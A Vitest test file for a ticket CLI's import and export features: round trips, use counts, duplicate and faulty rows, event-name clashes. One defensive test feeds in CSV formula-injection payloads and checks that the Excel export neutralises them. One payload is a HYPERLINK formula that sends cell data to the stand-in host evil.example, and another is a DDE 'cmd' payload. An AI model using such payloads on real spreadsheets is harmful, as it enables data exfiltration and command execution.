import { readFileSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Workplace } from '../support/program.ts';

const place = new Workplace();
const other = ['--store', 'sqlite:./other.db', '--keyring', './ticketscan.keyring.json'];

beforeAll(async () => {
  await place.output('seed', '--count', '5', '--out', 'target.json');
});

afterAll(() => place.remove());

test.each([
  ['CSV', 'all.csv', []],
  ['CSV as Excel writes it', 'excel.csv', ['--excel']],
  ['JSON Lines', 'all.jsonl', []],
])(
  'an export as %s, imported into an empty store, exports as the same',
  async (_, file, options) => {
    await place.output('tickets', 'export', '--out', file, ...options);
    const store = ['--store', `sqlite:./${file}.db`, '--keyring', './ticketscan.keyring.json'];
    await place.output('tickets', 'import', file, '--create-events', ...store);
    await place.output('tickets', 'export', '--out', `again-${file}`, ...options, ...store);

    const sorted = (name: string) => readFileSync(place.path(name), 'utf8').split('\n').toSorted();
    expect(sorted(`again-${file}`)).toEqual(sorted(file));
    expect(await place.json('audit', ...store)).toMatchObject({ ok: true, tickets: 85 });
  },
);

test('an imported card goes on from the uses that it brings', async () => {
  const [head, row] = [
    'ticketId,ticketType,usesAllowed,usesConsumed',
    'tkt_abc123_0123456789abcdefghij,multi,10,9',
  ];
  writeFileSync(place.path('card.csv'), `${head}\n${row}\n`);
  await place.output('tickets', 'import', 'card.csv', '--create-events', ...other);

  const ticket = await place.json<{ usesRemaining: number }>(
    ...['tickets', 'show', 'tkt_abc123_0123456789abcdefghij', ...other],
  );
  expect(ticket.usesRemaining).toBe(1);
  expect(await place.json('audit', ...other)).toMatchObject({ ok: true });
});

test('importing the same list twice is refused, or leaves alone what is there', async () => {
  await place.output('tickets', 'export', '--out', 'twice.csv');

  const again = await place.run('tickets', 'import', 'twice.csv');
  const skipped = await place.json('tickets', 'import', 'twice.csv', '--skip-existing');

  expect(again).toMatchObject({
    code: 2,
    stderr: expect.stringMatching(/lines 2, 3, .* and 75 more, column ticketId/u),
  });
  expect(skipped).toEqual({ imported: 0, existing: 85, skippedFaults: 0 });
});

test('of 100,000 rows with 37 faults every fault is named by line, and nothing is stored', async () => {
  const faults = new Map<number, string>();
  const rows = Array.from({ length: 100_000 }, (_, index) => {
    const id = `tkt_abc123_${index.toString(36).padStart(20, '0')}`;
    const line = index + 2;
    if (index % 2701 !== 1350) return `${id},single,1,Ada,,2026-12-24`;
    const kinds = [
      ['usesAllowed', `${id},multi,101,Ada,,`],
      ['validUntil', `${id},single,1,Ada,,24/12/2026`],
      ['ticketId', `tkt_${index},single,1,Ada,,`],
      ['type', `${id},triple,1,Ada,,`],
      ['', `${id},single,1,"Ada"x,,`],
      ['', `${id},single,1`],
    ] as const;
    const [column, row] = kinds[faults.size % kinds.length] ?? kinds[0];
    faults.set(line, column);
    return row;
  });
  writeFileSync(
    place.path('big.csv'),
    `ticketId,type,usesAllowed,firstName,lastName,validUntil\n${rows.join('\n')}\n`,
  );

  const { code, stderr } = await place.run(
    'tickets',
    'import',
    'big.csv',
    '--create-events',
    ...other,
  );

  const lines = Array.from(stderr.matchAll(/^ {2}lines? ([\d, ]+)/gmu), ([, list = '']) => list);
  const named = lines.flatMap((list) => list.match(/\d+/gu)?.map(Number) ?? []);
  expect(code).toBe(2);
  expect(faults.size).toBe(37);
  expect(named.toSorted((a, b) => a - b)).toEqual([...faults.keys()]);
  expect(await place.json('audit', ...other)).toMatchObject({ tickets: 1 });
}, 60_000);

test('names that are formulas come back from an export for Excel as they were', async () => {
  const names = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=x",
    '-1',
  ];
  const rows = names.map((name) => JSON.stringify({ type: 'single', firstName: name }));
  writeFileSync(place.path('evil.jsonl'), rows.join('\n'));
  const mint = [
    'mint',
    '--event',
    'Summer pool',
    '--from-json',
    'evil.jsonl',
    '--out',
    'evil',
    '--format',
    'csv',
  ];
  await place.output(...mint, '--excel');
  await place.output('tickets', 'export', '--excel', '--out', 'evil.csv');
  await place.output(
    'tickets',
    'import',
    'evil.csv',
    '--create-events',
    '--store',
    'sqlite:./evil.db',
  );
  await place.output(
    'tickets',
    'import',
    'evil/tickets.csv',
    '--create-events',
    '--store',
    'sqlite:./minted.db',
  );

  for (const file of ['evil.csv', 'evil/tickets.csv']) {
    expect(readFileSync(place.path(file), 'utf8')).not.toMatch(/(^|;)"?[=+@-]/mu);
  }
  for (const store of ['evil', 'minted']) {
    const tickets = await place.json<{ holder: { firstName: string } | null }[]>(
      ...['tickets', 'list', '--limit', '1000', '--store', `sqlite:./${store}.db`],
    );
    const found = tickets.map(({ holder }) => holder?.firstName);
    expect(found).toEqual(expect.arrayContaining(names));
  }
});

test('a list with two events of one name comes in as a whole, or nothing of it does', async () => {
  const rows = ['abc123', 'def456'].map((id) => `tkt_${id}_0123456789abcdefghij,Pool`);
  writeFileSync(place.path('two.csv'), `ticketId,eventName\n${rows.join('\n')}\n`);
  const two = ['--store', 'sqlite:./two.db', '--keyring', './ticketscan.keyring.json'];
  await place.output('events', 'create', '--name', 'Pool', ...two);

  await place.output('tickets', 'import', 'two.csv', '--create-events', ...two);

  const events = await place.json<{ id: string; name: string }[]>('events', 'list', ...two);
  expect(events.map(({ name }) => name)).toEqual(['Pool', 'Pool (abc123)', 'Pool (def456)']);
  writeFileSync(place.path('bad.csv'), `ticketId,eventName\n${rows[0]}\ntkt_new123_x,New\n`);
  const empty = ['--store', 'sqlite:./empty.db', '--keyring', './ticketscan.keyring.json'];
  const refused = await place.run('tickets', 'import', 'bad.csv', '--create-events', ...empty);
  expect(refused.code).toBe(2);
  expect(await place.json('events', 'list', ...empty)).toEqual([]);
});
